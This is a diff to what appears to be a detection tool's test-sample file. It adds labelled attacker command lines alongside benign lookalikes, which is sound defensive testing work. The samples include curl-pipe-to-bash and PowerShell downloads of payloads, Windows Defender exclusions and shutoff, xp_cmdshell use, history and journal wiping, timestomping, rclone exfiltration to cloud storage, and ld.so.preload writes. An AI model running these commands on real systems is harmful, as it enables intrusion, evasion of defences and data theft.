@@ -740,6 +740,43 @@ SAMPLES = {
     "exploit_web_command_asked": (
         ("access.log", '203.0.113.9 - - [28/May/2023:10:00:00 +0000] "GET /shell.php?exec=uname+-a HTTP/1.1" 404 196 "-" "M"\n'),
         ("access.log", '203.0.113.9 - - [28/May/2023:10:00:00 +0000] "GET /connector.php?cmd=ls&target=id&c=idx HTTP/1.1" 404 196 "-" "M"\n')),
+    "lotl_download_to_public_folder": (
+        ("a.log", "Invoke-WebRequest -Uri http://192.0.2.7/x.exe -OutFile C:\\Users\\Public\\x.exe\r\n"),
+        ("a.log", "Invoke-WebRequest -Uri https://download.example.org/setup.exe -OutFile C:\\Windows\\Temp\\setup.exe\r\n")),
+    "lotl_fetch_from_paste": (
+        ("h", "curl -sL https://transfer.sh/abc/x.sh | bash\n"),
+        ("h", "curl -sL https://deb.example.org/setup.sh | bash\ncurl --upload-file a https://transfer.sh/a\n")),
+    "lotl_defender_exclusion": (
+        ("a.log", "Add-MpPreference -ExclusionPath 'D:\\SQL\\Data'\r\n"),
+        ("a.log", "Get-MpPreference | select ExclusionPath\r\nRemove-MpPreference -ExclusionPath 'D:\\x'\r\n")),
+    "lotl_linux_system_program_restamped": (
+        ("h", "touch -r /bin/ls /usr/sbin/sshd\n"),
+        ("h", "touch -r /bin/ls /tmp/stamp\ntouch /usr/local/bin/x\n")),
+    "lotl_linux_hidden_file_locked": (
+        ("h", "chattr +i /usr/lib/.libx.so\n"),
+        ("h", "chattr +i /etc/resolv.conf\nchattr +i /var/www/html/.user.ini\nchattr -i /usr/bin/.x\n")),
+    "lotl_history_to_nowhere": (
+        ("h", "ln -sf /dev/null ~/.bash_history\n"),
+        ("h", "ln -s /dev/null ~/.mysql_history\nunset HISTFILE\nexport HISTSIZE=10000\nlocal HISTSIZE=0 save=9\n")),
+    "lotl_linux_journal_emptied": (
+        ("h", "journalctl --rotate\njournalctl --vacuum-time=1s\n"),
+        ("h", "journalctl --vacuum-time=14d\njournalctl --vacuum-size=100M\n")),
+    "lotl_rclone_exfiltration": (
+        ("h", "rclone copy /srv/share mega:loot --transfers 12\n"),
+        ("h", "rclone --config /etc/rclone.conf sync /srv/backup b2:backup\nrclone copy /srv omega-store:x\n")),
+    "lotl_sql_shell_enabled": (
+        ("ERRORLOG", wide("Configuration option 'xp_cmdshell' changed from 0 to 1. Run the RECONFIGURE statement to install.\r\n")),
+        ("a.sql", "EXEC sp_configure 'xp_cmdshell', 0; RECONFIGURE;\r\n")),
+    "lotl_sql_shell_used": (
+        ("a.sql", "EXEC master..xp_cmdshell 'whoami';\r\n"),
+        ("a.sql", "EXEC master..xp_cmdshell 'dir d:\\backup';\r\n")),
+    "lotl_name_with_carets": (
+        ("a.log", "cmd /c c^e^r^t^u^t^i^l -urlcache x\r\n"),
+        ("a.log", "cmd /c echo a ^& certutil -hashfile a.exe ^\r\n")),
+    "lotl_in_audit_record": (
+        ("audit.log", audit(["sh", "-c", "echo aWQK | base64 -d | sh"])),
+        ("audit.log", audit(["sh", "-c", "echo aWQK | base64 -d | sha1sum"]) + audit(["ls", "-l", "/dev/shm/x"]) +
+                      audit(["cat", "/etc/ld.so.preload"]))),
     "credential_cloud_metadata_asked": (
         ("h", "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/web\n"),
         ("h", "curl -s http://169.254.169.254/latest/meta-data/instance-id\n")),
@@ -888,6 +925,28 @@ QUOTED = [
     ("exploit_windows_token_tool", 'GodPotato.exe -cmd "cmd /c whoami"'),
     ("recon_fscan", "fscan64.exe -h 10.0.0.0/24 -o r.txt"),
     ("tunnel_remote_desktop_unattended", "AnyDesk.exe --install C:\\ProgramData\\AnyDesk --start-with-win --silent"),
+    ("lotl_download_to_public_folder", 'powershell -c "iwr http://192.0.2.7:8080/x.exe -o C:\\Windows\\Temp\\x.exe"'),
+    ("lotl_download_to_public_folder", "curl.exe -o C:\\ProgramData\\x.dll http://192.0.2.7/x.dll"),
+    ("lotl_download_to_public_folder", 'curl.exe -s "http://192.0.2.7/x.exe" -o "C:\\Users\\Public\\x.exe"'),
+    ("lotl_download_to_public_folder", "Invoke-WebRequest 'http://192.0.2.7/x.exe' -OutFile $env:TEMP\\x.exe"),
+    ("lotl_download_to_public_folder", "(New-Object Net.WebClient).DownloadFile('http://192.0.2.7/x.exe','C:\\Windows\\Temp\\x.exe')"),
+    ("lotl_defender_off", 'Add-MpPreference -ExclusionProcess "C:\\Windows\\Temp\\x.exe"'),
+    ("lotl_defender_off", "Add-MpPreference -ExclusionProcess powershell.exe"),
+    ("lotl_defender_off", "powershell Set-MpPreference -ExclusionPath C:\\Users\\Public"),
+    ("lotl_defender_off", "Add-MpPreference -Force -ExclusionPath 'C:\\'"),
+    ("lotl_defender_off", "Add-MpPreference -ExclusionExtension .exe"),
+    ("lotl_defender_off", "Set-MpPreference -DisableRealtimeMonitoring:$true"),
+    ("lotl_defender_off", 'reg add "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths" /v C:\\ /t REG_DWORD /d 0 /f'),
+    ("lotl_defender_exclusion", "Set-MpPreference -ExclusionPath E:\\Backup"),
+    ("lotl_defender_exclusion", "Add-MpPreference -ExclusionProcess sqlservr.exe"),
+    ("lotl_sql_shell_enabled", "EXEC sp_configure 'show advanced options', 1; RECONFIGURE; EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE;"),
+    ("lotl_sql_shell_used", "exec xp_cmdshell 'powershell -nop -c x'"),
+    ("lotl_sql_shell_used", 'EXECUTE master.dbo.xp_cmdshell "certutil -f x"'),
+    ("lotl_name_with_carets", "p^o^w^e^r^s^h^e^l^l -nop"),
+    ("lotl_name_with_carets", "cmd /c po^w^ershe^ll -nop"),
+    ("lotl_rclone_exfiltration", 'rclone.exe copy "\\\\fs1\\finance" mega:data -q --ignore-existing --auto-confirm --multi-thread-streams 12 --transfers 12'),
+    ("lotl_rclone_exfiltration", "rclone --config C:\\Users\\Public\\r.conf copy d:\\data r:x"),
+    ("lotl_packed_text_to_shell", "python -c \"exec(__import__('base64').b64decode(__import__('codecs').getencoder('utf-8')('aW1wb3J0IG9z')[0]))\""),
     ("credential_cloud_metadata_asked", "curl -H \"X-aws-ec2-metadata-token: $T\" http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
     ("credential_cloud_metadata_asked", 'Invoke-RestMethod -Headers @{Metadata="true"} -Uri http://169.254.169.254/metadata/identity/oauth2/token'),
 ]
@@ -966,6 +1025,33 @@ QUOTED_PLAIN = [
     ("exploit_web_command_answered", '203.0.113.9 - - [28/May/2023:10:00:00 +0000] "GET /a.php?cmd=id HTTP/1.1" 200 54 "-" "curl/8"'),
     ("exploit_web_command_answered", '203.0.113.9 - - [28/May/2023:10:00:00 +0000] "GET /a.php?u=1&c=ls%20-la HTTP/1.1" 200 54'),
     ("exploit_web_command_answered", "2023-05-28 10:00:00 10.0.0.1 GET /aspnet_client/x.aspx cmd=whoami 443 - 203.0.113.9 curl/8 - 200 0 0 93"),
+    ("lotl_fetch_from_paste", "wget -qO- https://pastebin.com/raw/abcd1234 | sudo bash"),
+    ("lotl_fetch_from_paste", "curl -sSL https://temp.sh/x/a.sh | sudo -E bash -"),
+    ("lotl_fetch_from_paste", 'bash -c "$(curl -fsSL https://x1y2z3.trycloudflare.com/i)"'),
+    ("lotl_fetch_from_paste", "bash <(curl -s https://paste.ee/r/abc)"),
+    ("lotl_fetch_from_address", "curl -sL https://192.0.2.7/x.sh | bash"),
+    ("lotl_fetch_from_address", "bash <(curl -s http://192.0.2.7:8000/x.sh)"),
+    ("lotl_fetch_from_address", 'sh -c "$(wget -qO- http://192.0.2.7/x)"'),
+    ("lotl_linux_system_program_restamped", "touch -acmr /bin/ls /usr/bin/.x"),
+    ("lotl_linux_system_program_restamped", "touch --reference=/usr/bin/ls /lib/x86_64-linux-gnu/security/pam_unix.so"),
+    ("lotl_linux_system_program_restamped", "touch -t 202001010101 /usr/sbin/sshd"),
+    ("lotl_linux_system_program_restamped", "touch /usr/sbin/sshd -r /bin/ls"),
+    ("lotl_linux_hidden_file_locked", "chattr -R +ia /usr/bin/.sys/.x"),
+    ("lotl_history_to_nowhere", "unset HISTFILE; export HISTSIZE=0"),
+    ("lotl_history_to_nowhere", "history -c\nunset HISTFILE"),
+    ("lotl_history_to_nowhere", "ln -s -f /dev/null /root/.zsh_history"),
+    ("lotl_linux_journal_emptied", "journalctl --vacuum-time 1s"),
+    ("lotl_linux_journal_emptied", "rm -rf /var/log/journal/*"),
+    ("lotl_rclone_exfiltration", "rclone --config /tmp/.r.conf copy /srv r:x"),
+    ("lotl_rclone_exfiltration", "/dev/shm/.c/rclone copy /home pcloud:h"),
+    ("lotl_packed_text_to_shell", "echo aWQgPiAvdG1wL3gK | base64 -d | sh"),
+    ("lotl_packed_text_to_shell", "echo 'aWQgPiAvdG1wL3gK' | openssl base64 -d | bash"),
+    ("lotl_in_audit_record", audit(["sh", "-c", "curl -s http://192.0.2.7/x.sh | bash"])),
+    ("lotl_in_audit_record", audit(["sh", "-c", "echo /lib/x.so > /etc/ld.so.preload"])),
+    ("lotl_in_audit_record", audit(["tee", "-a", "/etc/ld.so.preload"])),
+    ("lotl_in_audit_record", audit(["/dev/shm/.x", "-d"])),
+    ("lotl_in_audit_record", audit(["chmod", "+x", "/dev/shm/.x"])),
+    ("lotl_in_audit_record", audit(["cp", "/tmp/p", "/etc/ld.so.preload"])),
 ]
 
 
